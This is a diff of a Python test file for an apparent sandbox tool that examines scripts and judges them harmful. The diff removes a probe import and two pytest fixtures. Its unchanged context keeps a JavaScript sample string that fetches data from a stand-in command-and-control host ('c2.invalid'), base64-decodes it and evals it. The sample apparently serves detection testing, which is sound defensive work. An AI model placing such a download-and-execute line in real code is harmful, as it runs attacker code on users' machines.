@@ -9,7 +9,6 @@ from pathlib import Path
 
 import pytest
 
-from lazaretto.adapters.sandbox.probe import probe
 from lazaretto.adapters.sandbox.session import Order, run_order
 from lazaretto.adapters.sandbox.written import Kept, Written
 from lazaretto.app.run_written import examine_written, harmful
@@ -23,21 +22,6 @@ STAGE = (
     "h.get('https://c2.invalid/p', r => { let d = ''; r.on('data', c => d += c);"
     " r.on('end', () => eval(Buffer.from(d, 'base64').toString())); });\n"
 )
-
-
-@pytest.fixture(scope="session")
-def tools():
-    found = probe()
-    assert found.tools is not None, found.missing
-    return found.tools
-
-
-@pytest.fixture
-def project():
-    folder = Path(tempfile.mkdtemp(prefix="lazaretto-"))
-    folder.chmod(0o755)
-    yield folder
-    shutil.rmtree(folder)
 
 
 def written(tools, project, script):
